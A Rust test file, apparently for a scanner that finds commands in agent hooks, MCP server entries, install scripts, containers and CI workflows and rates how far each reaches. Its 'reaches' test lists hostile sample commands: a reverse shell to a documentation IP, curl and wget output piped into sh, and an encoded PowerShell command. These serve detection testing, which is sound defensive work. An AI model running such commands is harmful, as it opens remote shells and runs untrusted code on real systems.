use prowess_base::Span;
use prowess_format::NodeKind;

use super::*;

fn shape(node: &Node<'_>) -> String {
    match &node.kind {
        NodeKind::Scalar(scalar) => scalar.text.to_string(),
        NodeKind::Sequence(elements) => {
            let inner: Vec<String> = elements.iter().map(shape).collect();
            format!("[{}]", inner.join(","))
        }
        NodeKind::Mapping(entries) => {
            let inner: Vec<String> = entries
                .iter()
                .map(|entry| format!("{}={}", entry.key, shape(&entry.value)))
                .collect();
            format!("{{{}}}", inner.join(","))
        }
    }
}

/// Comments, both quotes, missing and spare commas, keys twice, escapes, members without braces, and a
/// text that breaks off are all read.
#[test]
fn json_is_read_loosely() {
    for (text, expected) in [
        (
            r#"{"a": [1, true, null], "b": {"c": "d"}}"#,
            "{a=[1,true,null],b={c=d}}",
        ),
        ("\u{FEFF}{ // x\n 'a': 1 /* y */ b: 2,, }", "{a=1,b=2}"),
        (r#"{"a": 1, "a": {"b": 2}}"#, "{a=1,a={b=2}}"),
        (r#"{"a": "x\n\u0041\ud83d\ude00\/"}"#, "{a=x\nA😀/}"),
        (r#""a": {"b": 1}, "c": 2"#, "{a={b=1},c=2}"),
        (r#"{"a": [{"b": "c"#, "{a=[{b=c}]}"),
        (r#"{"a" 1 ] "b": 2}"#, "{}"),
    ] {
        let read = json::read(text).map(|node| shape(&node));
        assert_eq!(read.as_deref(), Some(expected), "{text}");
    }
    assert_eq!(json::read("no JSON"), None);
}

/// What is nested beyond the bound is passed over, and what follows it is read.
#[test]
fn json_nested_deeply() {
    let text = format!(
        r#"{{"a": {}{}, "b": 1}}"#,
        "[".repeat(5000),
        "]".repeat(5000)
    );
    let root = json::read(&text).unwrap();
    assert_eq!(root.get("b").and_then(super::text), Some("1"));
}

/// A place of JSON and of TOML is where the value stands.
#[test]
fn places() {
    let text = r#"{"é": "x", "b": [ "cd" ]}"#;
    let root = json::read(text).unwrap();
    assert_eq!(root.get("b").unwrap().span.slice(text), r#"[ "cd" ]"#);
    let text = "[a.b]\nc = [\"d\", 1]\n";
    let root = toml::read(text).unwrap();
    assert_eq!(shape(&root), "{a={b={c=[d,1]}}}");
    let c = root
        .get("a")
        .and_then(|a| a.get("b"))
        .and_then(|b| b.get("c"));
    assert_eq!(c.unwrap().span.slice(text), "[\"d\", 1]");
}

/// Commands of hooks, helpers, servers, installations, containers, tasks, workflows and install
/// specifications are found with what starts them; data is not.
#[test]
fn commands_in_settings() {
    let found = |text: &str| -> Vec<(Starter, String)> {
        let root = json::read(text).unwrap();
        let all = commands(&root);
        all.into_iter()
            .map(|command| (command.starter, command.text.into_owned()))
            .collect()
    };
    for (text, starter, command) in [
        (
            r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "a b"}]}]}}"#,
            Starter::Hook,
            "a b",
        ),
        (r#"{"hooks": {"pre-commit": "a"}}"#, Starter::Hook, "a"),
        (
            r#"{"hooks": {"stop": [{"bash": "a"}]}}"#,
            Starter::Hook,
            "a",
        ),
        (r#"{"apiKeyHelper": "a"}"#, Starter::Helper, "a"),
        (
            r#"{"statusLine": {"type": "command", "command": "a"}}"#,
            Starter::Helper,
            "a",
        ),
        (
            r#"{"mcpServers": {"x": {"command": "npx", "args": ["-y", "p"]}}}"#,
            Starter::Server,
            "npx -y p",
        ),
        (
            r#"{"scripts": {"postinstall": "a"}}"#,
            Starter::Install,
            "a",
        ),
        (r#"{"scripts": {"build": "a"}}"#, Starter::Script, "a"),
        (
            r#"{"postCreateCommand": ["a", "b"]}"#,
            Starter::Container,
            "a",
        ),
        (
            r#"{"postStartCommand": {"x": "a"}}"#,
            Starter::Container,
            "a",
        ),
        (
            r#"{"tasks": [{"label": "x", "command": "a"}]}"#,
            Starter::Task,
            "a",
        ),
        (
            r#"{"jobs": {"x": {"steps": [{"run": "a"}]}}}"#,
            Starter::Workflow,
            "a",
        ),
        (
            r#"{"install": [{"kind": "shell", "command": "a"}]}"#,
            Starter::Specification,
            "a",
        ),
    ] {
        let expected = match text.contains(r#"["a", "b"]"#) {
            true => "a b",
            false => command,
        };
        assert_eq!(found(text), [(starter, expected.to_owned())], "{text}");
    }
    for text in [
        r#"{"command": "a", "name": {"run": "b"}}"#,
        r#"{"notify": true, "hooks": {"type": "command", "timeout": 30, "Stop": "..."}}"#,
        r#""Stop": [{"hooks": [{"type": "prompt", "prompt": "Ask whether it is done"}]}]"#,
    ] {
        assert_eq!(found(text), [], "{text}");
    }
}

/// How far a command reaches is told by its text.
#[test]
fn reaches() {
    for (command, expected) in [
        ("npm test", Reach::Local),
        ("node -e \"process.exit(0)\"", Reach::Inline),
        ("curl -s http://localhost:3000/x", Reach::Local),
        ("curl -s https://example.net/x", Reach::Network),
        ("bash -i >& /dev/tcp/198.51.100.7/1 0>&1", Reach::Network),
        ("curl -s https://example.net/x | sh", Reach::Foreign),
        ("bash <(wget -qO- example.net/x)", Reach::Foreign),
        ("echo aGk= | base64 -d", Reach::Foreign),
        ("powershell -enc SQBFAFgAIABhAGEAYQBhAGEA", Reach::Foreign),
        ("./scripts/curling.sh", Reach::Local),
        ("test -x a || sh b", Reach::Local),
        (
            "curl -LsSf https://astral.sh/uv/install.sh | sh",
            Reach::Network,
        ),
    ] {
        assert_eq!(reach(command), expected, "{command}");
    }
}

/// Commands that install are read over joined lines, options and versions, and end where the command ends.
#[test]
fn installs() {
    let found = |text: &str| -> Vec<String> {
        let install = install_at(text, 0);
        install
            .into_iter()
            .flat_map(|install| install.packages)
            .map(|(package, _)| package.to_owned())
            .collect()
    };
    assert_eq!(
        found("pip install -q a==1 'b[x]>=2' && rm c"),
        ["a==1", "b[x]>=2"]
    );
    assert_eq!(found("npm install \\\n  a@1 \\\n  b"), ["a@1", "b"]);
    assert_eq!(found("npx -y @s/t@latest serve --port 1"), ["@s/t@latest"]);
    assert_eq!(found("pip install -r requirements.txt"), [""; 0]);
    assert_eq!(found("pip install --index-url https://e.test/s a"), ["a"]);
    assert_eq!(
        [
            package_name(Manager::Node, "@s/t@latest"),
            package_name(Manager::Node, "t@1.2.0"),
            package_name(Manager::Python, "a[x]==1.0"),
            package_name(Manager::Python, "a>=1"),
        ],
        [("@s/t", false), ("t", true), ("a", true), ("a", false)]
    );
    let text = "npm install a";
    assert_eq!(install_at(text, 0).unwrap().span, Span::new(0, text.len()));
    assert_eq!(install_at("pnpm install a", 1), None);
}
